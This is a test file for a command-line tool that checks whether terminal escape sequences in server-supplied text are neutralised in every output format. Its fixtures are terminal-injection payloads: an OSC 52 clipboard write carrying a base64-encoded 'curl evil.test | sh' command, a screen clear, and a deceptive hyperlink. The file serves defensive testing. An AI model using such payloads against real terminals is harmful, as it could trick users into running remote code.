import { Chalk } from 'chalk';
import { describe, expect, it } from 'vitest';
import { ApiError, NetworkError } from '../../../src/client/errors.js';
import { describeFailure, UsageError } from '../../../src/cli/errors.js';
import { progressLine } from '../../../src/cli/framework/progress.js';
import { renderEnding } from '../../../src/cli/framework/ending.js';
import type { OutputFormat } from '../../../src/cli/output/format.js';
import { Output, type Column } from '../../../src/cli/output/output.js';
import { terminalJson, terminalLines, terminalText } from '../../../src/cli/output/terminal-text.js';
import { renderHealth } from '../../../src/cli/commands/kb/link-health/render.js';
import { renderPlan } from '../../../src/cli/commands/kb/sync/render-plan.js';
import { ProgressLine } from '../../../src/cli/snapshot/progress-line.js';
import { fakeFactory, fakeIO } from '../../support/fake-io.js';

/** What a member of the public can put in a title: clipboard write, clear screen, a lying link, an 8-bit CSI. */
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07';
const CLEAR = '\x1b[2J\x1b[H';
const LINK = '\x1b]8;;https://evil.test/\x1b\\click here\x1b]8;;\x1b\\';
const EVIL = `Dark mode ${OSC52}${CLEAR}${LINK} \x9b31m\x7f end`;

/** The characters a terminal would act on: C0 other than tab and newline, DEL, C1. */
const obeyed = (text: string): string[] =>
  [...text].filter((ch) => {
    const code = ch.charCodeAt(0);
    return (code < 0x20 && ch !== '\t' && ch !== '\n') || (code >= 0x7f && code <= 0x9f);
  });
/** fp's own colours (SGR), which it adds after cleaning. */
const SGR = new RegExp(`${'\x1b'}\\[\\d+m`, 'g');

describe('terminalText', () => {
  it('replaces C0, DEL and C1 with visible stand-ins: ESC as ␛, BEL as ␇, DEL as ␡, C1 as \\x9b', () => {
    expect(terminalText(EVIL)).toBe(
      'Dark mode ␛]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==␇␛[2J␛[H␛]8;;https://evil.test/␛\\click here␛]8;;␛\\ \\x9b31m␡ end',
    );
    expect(terminalText('a\u0000b\u0085c')).toBe('a␀b\\x85c');
  });

  it('text without control characters is returned as is (emoji, CJK, accents)', () => {
    const text = 'Café 日本語 🚀 ünïcödé';
    expect(terminalText(text)).toBe(text);
  });

  it('tabs and line breaks pass only where the caller allows them; \\r\\n becomes \\n, a lone \\r never passes', () => {
    expect(terminalText('a\tb\nc\rd')).toBe('a␉b␊c␍d');
    expect(terminalLines('a\tb\r\nc\rd')).toBe('a\tb\nc␍d');
  });
});

interface Row {
  id: string;
  title: string;
  created_at: string;
}
const rows: Row[] = [{ id: 'k1', title: EVIL, created_at: `2026-01-01${CLEAR}` }];
const columns: Column<Row>[] = [
  { header: 'KEY', field: 'id', value: (r) => r.id },
  { header: 'TITLE', value: (r) => r.title },
  { header: 'CREATED', field: 'created_at', value: (r) => r.created_at, date: true },
];

function output(format: OutputFormat) {
  const io = fakeIO({ columns: 400, tty: format === 'table' });
  return { io, out: new Output(io, format, new Chalk({ level: 1 }), { now: new Date('2026-01-04T00:00:00Z') }) };
}

describe('every format for people and spreadsheets shows control characters, JSON keeps them exactly', () => {
  for (const format of ['table', 'plain', 'csv'] as const) {
    it(`${format}: a list, and one record`, async () => {
      const { io, out } = output(format);
      await out.list(rows, columns);
      await out.item(rows[0], columns);
      // Tables are coloured by fp itself (bold headers): only its own SGR sequences remain.
      const text = io.out().replace(SGR, '');
      expect(obeyed(text)).toEqual([]);
      expect(text).toContain('␛]52;c;');
      expect(text).toContain('␛[2J');
      expect(text).toContain('␛]8;;https://evil.test/');
    });
  }

  for (const format of ['json', 'ndjson'] as const) {
    it(`${format}: exact`, async () => {
      const { io, out } = output(format);
      await out.list(rows, columns);
      expect(
        io
          .out()
          .trim()
          .split('\n')
          .filter((l) => l.includes('{'))
          .map((l) => JSON.parse(l.replace(/^ +|,$/g, '')).title),
      ).toEqual([EVIL]);
    });
  }

  it('a report written as text (a `text` ending) is shown, not obeyed', async () => {
    const { io, out } = output('table');
    await renderEnding(out, fakeFactory(io), { text: `Summary\n${EVIL}\n`, data: {} }, undefined, {});
    expect(io.out()).toBe(`Summary\n${terminalText(EVIL)}\n`);
  });
});

describe('on a terminal, JSON and --jq output obey nothing; piped, they stay exact', () => {
  it('terminalJson writes DEL and C1 as JSON escapes: the same JSON, nothing raw', () => {
    const json = JSON.stringify({ [`k${OSC52}`]: EVIL });
    expect(obeyed(terminalJson(json))).toEqual([]);
    expect(JSON.parse(terminalJson(json))).toEqual(JSON.parse(json));
    expect(terminalJson('{"a":"plain"}')).toBe('{"a":"plain"}');
  });

  for (const tty of [true, false]) {
    it(`--jq strings and --json ${tty ? 'on a terminal' : 'piped'}`, async () => {
      const run = async (opts: { jq?: string }) => {
        const io = fakeIO({ tty });
        await new Output(io, 'json', undefined, opts).list(rows, columns);
        return io.out();
      };
      const jq = await run({ jq: '.[].title' });
      const json = await run({});
      if (tty) {
        expect(jq).toBe(`${terminalText(EVIL)}\n`);
        expect(obeyed(json.replace(/\n/g, ''))).toEqual([]);
      } else {
        expect(jq).toBe(`${EVIL}\n`);
      }
      expect(JSON.parse(json)[0].title).toBe(EVIL);
    });
  }
});

describe('stderr: status lines, progress lines and errors', () => {
  it('status lines: control characters shown; a style (fp colour) is applied after', () => {
    const io = fakeIO();
    const f = fakeFactory(io);
    f.status(`Logged in to ${EVIL}`);
    f.status('3 broken.', (s) => `\x1b[31m${s}\x1b[39m`);
    expect(io.err()).toBe(`Logged in to ${terminalText(EVIL)}\n\x1b[31m3 broken.\x1b[39m\n`);
  });

  it("progress lines: only fp's own erase sequence reaches the terminal", () => {
    const io = fakeIO({ stderrIsTTY: true, env: {} });
    progressLine(fakeFactory(io))!.update(`Downloading ${EVIL}`);
    expect(io.err()).toBe(`\r\x1b[2KDownloading ${terminalText(EVIL)}`);
    const written: string[] = [];
    const snapshot = new ProgressLine(
      (t) => written.push(t),
      true,
      () => 1,
      null,
    );
    snapshot.step(`knowledge base tab ${OSC52}`);
    expect(written.join('')).toBe(
      '\r\x1b[2Kknowledge base tab ␛]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==␇: 0 items · 1 request',
    );
  });

  it("errors: the API's message and field errors are shown, not obeyed", () => {
    const err = new ApiError(422, `Invalid ${OSC52}`, { title: [`bad ${CLEAR}`], [`x${LINK}`]: ['y'] });
    const { lines } = describeFailure(err);
    for (const line of lines) expect(obeyed(line)).toEqual([]);
    expect(lines[0]).toBe('error: Invalid ␛]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==␇ (422)');
    expect(lines[1]).toBe('  title: bad ␛[2J␛[H');
    for (const other of [new NetworkError(`reset by ${CLEAR}`), new UsageError(`no field ${CLEAR}`), new Error(OSC52)])
      expect(obeyed(describeFailure(other).lines.join('\n'))).toEqual([]);
  });
});

describe('reports of commands', () => {
  it('link health and a sync plan: paths, titles, URLs and errors from the server are cleaned; colour stays', () => {
    const c = new Chalk({ level: 1 });
    const health = renderHealth(
      [
        {
          post_id: 'a1',
          title: EVIL,
          links_total: 1,
          links_failed: 1,
          links: [{ url: `https://x.test/${OSC52}`, ok: false, status: 404, error: `HTTP 404 ${CLEAR}` }],
        },
      ] as never,
      c,
    );
    expect(obeyed(health.replace(SGR, ''))).toEqual([]);
    const plan = renderPlan(
      {
        tab: { changes: [] },
        summary: { create: 1, update: 0, delete: 1 },
        sections: { create: [], update: [], delete: [] },
        articles: {
          create: [{ id: null, path: `a${CLEAR}.md`, title: EVIL }],
          update: [],
          delete: [{ id: `x${OSC52}`, path: 'b.md', title: 'B' }],
        },
      } as never,
      c,
    );
    expect(obeyed(plan.replace(SGR, ''))).toEqual([]);
    expect(plan).toContain('a␛[2J␛[H.md');
  });
});
